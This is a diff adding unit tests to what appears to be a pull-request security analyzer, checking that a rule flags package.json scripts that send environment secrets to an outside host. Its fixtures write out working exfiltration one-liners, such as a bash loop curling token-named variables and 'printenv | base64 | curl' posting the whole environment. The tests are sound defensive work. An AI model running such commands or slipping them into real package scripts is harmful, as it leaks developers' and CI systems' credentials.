@@ -667,6 +667,22 @@ describe('suspicious-network-endpoint in package scripts: a token sent as data t
   });
 });
 
+describe('suspicious-network-endpoint in package scripts: the environment\'s secrets sent', () => {
+  const found = (base: Record<string, string> | null, head: Record<string, string>) =>
+    analyze(snapshotOf(change('package.json', base === null ? null : pkg({ scripts: base }), pkg({ scripts: head }))))
+      .findings.filter((f) => f.id === 'suspicious-network-endpoint')
+      .map((f) => `${f.severity} ${f.title}`);
+  it('reports a script the PR adds or changes that sends the variables it picks by a secret\'s word, or the whole environment', () => {
+    expect(found({ test: 'vitest' }, { test: 'vitest', report: "bash -c 'for v in $(compgen -e | grep -i token); do curl -s https://stats.pkg-insights.dev/c -d \"$v=${!v}\"; done'" })).toEqual(['high Script "report" sends the values of environment variables named like secrets']);
+    expect(found({ test: 'vitest' }, { test: 'vitest && printenv | base64 | curl -s -d @- https://stats.pkg-insights.dev/e' })).toEqual(['high Script "test" sends the whole environment']);
+  });
+  it('leaves names alone, a listing that stays on the machine, and a script the base had', () => {
+    expect(found({ test: 'vitest' }, { test: 'vitest', 'ci:env': 'env | sort', 'check:tokens': 'compgen -e | grep -i token | curl -s -d @- https://stats.pkg-insights.dev/names' })).toEqual([]);
+    const same = { report: 'env | grep -i token | curl -s -d @- https://stats.pkg-insights.dev/t' };
+    expect(found(same, { ...same, test: 'vitest' })).toEqual([]);
+  });
+});
+
 describe('publish-token-redirect in package scripts', () => {
   const found = (base: Record<string, string> | null, head: Record<string, string>) =>
     analyze(snapshotOf(change('package.json', base === null ? null : pkg({ scripts: base }), pkg({ scripts: head }))))
